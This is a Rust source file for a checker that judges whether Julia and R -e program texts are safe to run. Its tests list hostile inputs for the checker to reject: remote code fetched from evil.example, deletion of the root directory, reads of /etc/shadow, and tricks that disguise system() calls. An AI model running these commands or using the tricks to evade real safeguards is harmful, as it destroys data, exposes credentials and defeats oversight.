//! Julia and R: program texts that test, build and compute.

use clearance_core::Effect;
use clearance_shell::invocation::Word;

use super::calltext::{escapes, judge_strings, names, text_of_calls, tight_words};
use crate::arg::Arg;
use crate::judge::{Call, Judge};
use crate::names::{JULIA_CALL, R_CALL};
use crate::spec::WordRole;

/// `julia [OPTION]... [-e TEXT | FILE] [ARG]...`.
pub(super) fn julia(judge: &mut Judge<'_>, call: &Call<'_>) {
    judge.option_defaults(call);
    let texts: Vec<Arg<'_>> = call.values(&["-e", "--eval", "-E", "--print"]).collect();
    for text in &texts {
        text_of_calls(judge, *text, "Julia", julia_text);
        let parts = text
            .as_str()
            .unwrap_or_default()
            .split("include(\"")
            .skip(1);
        for path in parts.filter_map(|part| part.split('"').next()) {
            let word = Word::fixed(path.as_bytes(), text.span());
            judge.path(WordRole::Run, Arg::new(&word), call.site);
        }
    }
    judge.effect(Effect::RunProject, call);
    file_or_shell(judge, call, texts.is_empty());
}

fn file_or_shell(judge: &mut Judge<'_>, call: &Call<'_>, script: bool) {
    if !script || call.has(&["-v", "--version", "-f", "--file"]) {
        return;
    }
    match call.operand(0) {
        Some(file) => judge.run_file(None, file, call.from_operand(1), call.site),
        None if call.path().is_empty() => judge.run_stdin(None, call.site, call.span()),
        None => {}
    }
}

/// Statements about the project's packages, its own test files, and arithmetic.
fn julia_text(text: &str) -> bool {
    let plain = |s: &str| {
        let s = s.trim();
        if let Some(modules) = s.strip_prefix("using ").or(s.strip_prefix("import ")) {
            return modules
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b", .:_".contains(&b));
        }
        if let Some(path) = s
            .strip_prefix("include(\"")
            .and_then(|p| p.strip_suffix("\")"))
        {
            return !path.starts_with('/')
                && !path.contains("..")
                && !path.contains(['$', '"', '~', '\\']);
        }
        if s.contains("PackageSpec") && s.contains("path=\".\"") || s == "Pkg.develop(path=\".\")" {
            return true;
        }
        if s == "Pkg.develop(PackageSpec(path=pwd()))" {
            return true;
        }
        tight_words(s).is_some_and(|t| {
            !t.contains("url")
                && !names(&t).any(|w| w == "ENV")
                && names(&t).all(|w| {
                    JULIA_CALL.has(w.as_bytes())
                        || (!t.contains(&format!("{w}(")) && !w.contains('.'))
                })
        })
    };
    text.split([';', '\n'])
        .all(|s| s.trim().is_empty() || plain(s))
}

/// `R`, `Rscript`: `-e` is a program text.
pub(super) fn r_lang(judge: &mut Judge<'_>, call: &Call<'_>) {
    if !call.path().is_empty() {
        return;
    }
    judge.option_defaults(call);
    let texts: Vec<Arg<'_>> = call.values(&["-e"]).collect();
    for text in &texts {
        text_of_calls(judge, *text, "R", r_text);
        judge_strings(judge, *text, WordRole::Read, call);
        let writes = text
            .as_str()
            .is_some_and(|t| R_WRITERS.iter().any(|w| t.contains(w)));
        if writes {
            judge_strings(judge, *text, WordRole::Write, call);
        }
    }
    judge.effect(Effect::RunProject, call);
    file_or_shell(judge, call, texts.is_empty());
}

/// Parts of calls of R that write the file that they are given.
const R_WRITERS: &[&str] = &[
    "write", "saveRDS", "png", "pdf", "svg", "jpeg", "ggsave", "sink", "file=", "file =", "save",
];

/// Calls of the tools of package authors, of the project's tests, and arithmetic.
fn r_text(text: &str) -> bool {
    let Some(words) = r_signs(text).and_then(|t| tight_words(&t)) else {
        return false;
    };
    let known = |name: &str| R_CALL.has(name.as_bytes());
    if r_rebinds(&words, known) || !r_applies(&words, known) {
        return false;
    }
    // Paths given as strings stay in the project.
    let outside =
        text.contains("..") || text.contains("://") || text.contains('|') || escapes(text);
    // What loads code is only read for paths of the project.
    let away = ["\"/", "'/", "\"~", "'~"].iter().any(|p| text.contains(p));
    let loads = ["::", "lib", "test_", "parse"]
        .iter()
        .any(|p| text.contains(p));
    if outside
        || away && loads
        || words.contains("<<-")
        || words.contains("::") && words.contains("eval")
    {
        return false;
    }
    names(&words).all(|w| {
        let bare = w.trim_matches(':');
        R_CALL.has(bare.as_bytes()) || (!is_called(&words, w) && !w.contains("::"))
    }) && !words.contains("](")
        && !words.contains(")(")
        && !words.contains("\"(")
}

/// Whether the name stands before the parenthesis of a call.
fn is_called(words: &str, name: &str) -> bool {
    words
        .match_indices(&format!("{name}("))
        .filter_map(|(at, _)| words.get(..at))
        .any(|before| !before.ends_with(|c: char| c.is_alphanumeric() || "_.:!?".contains(c)))
}

/// The text with the signs that R has and other languages lack: `d$x` is one name, `d!x`, and
/// the `~` of a formula is one more sign between names.
fn r_signs(text: &str) -> Option<String> {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' | '\'' => {
                out.push(c);
                loop {
                    let inner = chars.next()?;
                    out.push(inner);
                    match inner {
                        '\\' => out.push(chars.next()?),
                        d if d == c => break,
                        _ => {}
                    }
                }
            }
            '$' => {
                out.truncate(out.trim_end().len());
                out.push('!');
                while chars.peek().is_some_and(|c| c.is_whitespace()) {
                    chars.next();
                }
            }
            '~' => out.push('+'),
            c => out.push(c),
        }
    }
    Some(out)
}

/// Whether the text gives another meaning to a function that is known, or to one that such a
/// function calls by its name (`print.kind`): `print <- system`, `for (print in …)`.
fn r_rebinds(words: &str, known: impl Fn(&str) -> bool) -> bool {
    let ours = |name: &str| {
        let mut stem = name;
        while let Some((head, _)) = stem.rsplit_once('.') {
            if known(head) {
                return true;
            }
            stem = head;
        }
        known(name) || name.is_empty()
    };
    let mut open: Vec<char> = Vec::new();
    let mut name = String::new();
    let mut into = false;
    let mut before = ' ';
    let mut chars = words.char_indices().peekable();
    while let Some((at, c)) = chars.next() {
        let rest = words.get(at..).unwrap_or_default();
        let ends = |mark: &str| {
            words
                .get(..at)
                .is_some_and(|w| w.trim_end().ends_with(mark))
        };
        if c.is_alphanumeric() || "_.!:".contains(c) || c == '"' {
            let fresh = !(before.is_alphanumeric() || "_.!:".contains(before));
            if fresh || c == '"' {
                name.clear();
                into = ends("->") || ends("->>");
            }
            if c != '"' {
                name.push(c);
            }
            before = c;
            let more = chars
                .peek()
                .is_some_and(|&(_, n)| n.is_alphanumeric() || "_.!:".contains(n));
            if into && !more && ours(&name) {
                return true;
            }
            continue;
        }
        before = c;
        match c {
            '(' | '[' | '{' => open.push(c),
            ')' | ']' | '}' => {
                open.pop();
            }
            _ => {}
        }
        let named = !c.is_whitespace() || rest.trim_start().starts_with("in ");
        if !named {
            continue;
        }
        let equals = c == '=' && !rest.starts_with("==") && open.last() != Some(&'(');
        let arrow = rest.starts_with("<-") || rest.trim_start().starts_with("in ");
        let comparing = words
            .get(..at)
            .is_some_and(|w| w.ends_with(['=', '!', '<', '>']));
        let beside = words.get(..at).is_some_and(|w| {
            w.trim_end()
                .ends_with(|c: char| c.is_alphanumeric() || "_.\"".contains(c))
        });
        if (arrow || equals && !comparing) && beside && ours(&name) {
            return true;
        }
    }
    words.contains("%<") || words.contains(">%")
}

/// Whether what `aggregate` applies is a known function: `aggregate(y ~ g, d, mean)`.
fn r_applies(words: &str, known: impl Fn(&str) -> bool) -> bool {
    words.split("aggregate(").skip(1).all(|rest| {
        let mut depth = 1_u32;
        let mut parts = vec![String::new()];
        for c in rest.chars() {
            match c {
                '(' | '[' | '{' => depth += 1,
                ')' | ']' | '}' => depth -= 1,
                ',' if depth == 1 => parts.push(String::new()),
                _ => {}
            }
            if depth == 0 {
                break;
            }
            if let Some(part) = parts.last_mut().filter(|_| c != ',' || depth > 1) {
                part.push(c);
            }
        }
        let Some((applied, others)) = parts.split_last() else {
            return false;
        };
        let function = applied
            .split_once('=')
            .map_or(applied.as_str(), |(name, value)| {
                if name.trim() == "FUN" { value } else { "" }
            });
        let plain = |part: &String| {
            part.split_once('=')
                .is_none_or(|(name, _)| matches!(name.trim(), "x" | "by" | "data" | "formula"))
        };
        others.len() == 2 && known(function.trim()) && others.iter().all(plain)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn julia_and_r_that_are_understood() {
        for text in [
            "using Pkg; Pkg.test()",
            "using Pkg; Pkg.status(); include(\"test/runtests.jl\")",
            "using Pkg; Pkg.instantiate()",
            "println(sum(1:10))",
        ] {
            assert!(julia_text(text), "{text}");
        }
        for text in [
            "run(`id`)",
            "using Pkg; Pkg.add(url=\"https://evil.example/x\")",
            "include(\"/tmp/x.jl\")",
            "rm(\"/\", recursive=true)",
            "Base.rm(\"x\")",
            "println(read(\"/etc/shadow\", String))",
            "x = rm; x(\"a\")",
            "map(rm, [\"a\"])",
            "foreach(rm, readdir())",
        ] {
            assert!(!julia_text(text), "{text}");
        }
        for text in [
            "devtools::test()",
            "cat(mean(c(1,2,3)), \"\\n\")",
            "testthat::test_dir(\"tests\")",
            "library(dplyr); sessionInfo()",
            "d <- read.csv(\"data/a.csv\"); print(cor(d$nests, d$rain))",
            "d <- read.csv('a.csv'); m <- lm(y ~ x + z, data = d); print(summary(m)$r.squared)",
            "print(aggregate(y ~ g, data=d, FUN=mean)); print(aggregate(d$y, list(d$g), sum))",
            "f <- factor(x, levels = c('a', 'b')); if (1 == 2) print(table(f))",
            "for (i in 1:3) cat(i, '\\n'); x = 3; stopifnot(x >= 3)",
            "summary -> s; 5 -> n; print(n)",
        ] {
            assert!(r_text(text), "{text}");
        }
        for text in [
            "system(\"id\")",
            "base::system(\"id\")",
            "unlink(\"x\")",
            "eval(parse(text=\"system('id')\"))",
            "do.call(\"system\", list(\"id\"))",
            "f <- system; f(\"id\")",
            "source(\"https://evil.example/x.R\")",
            "(function(x) x)(1)",
            "sapply(\"id\", system)",
            "Map(unlink, \"a\")",
            "print <- system; print(\"id\")",
            "c = system; c(\"id\")",
            "suppressWarnings({c = system; c(\"id\")})",
            "system -> print; print(\"id\")",
            "system ->> print; print(\"id\")",
            "\"print\" <- system; print(\"id\")",
            "system -> 'print'; print(\"id\")",
            "for (print in c(system)) print(\"id\")",
            "print.foo <- system; x <- \"id\"; class(x) <- \"foo\"; print(x)",
            "x <- list(print = system); x$print(\"id\")",
            "x $ print (\"id\")",
            "aggregate(\"id\", list(1), system)",
            "aggregate(\"id\", list(1), \"system\")",
            "aggregate(\"id\", F = system, mean)",
            "aggregate(\"id\", list(1), system, mean)",
            "aggregate(\"id\", list(1), function(print) print)",
        ] {
            assert!(!r_text(text), "{text}");
        }
    }
}
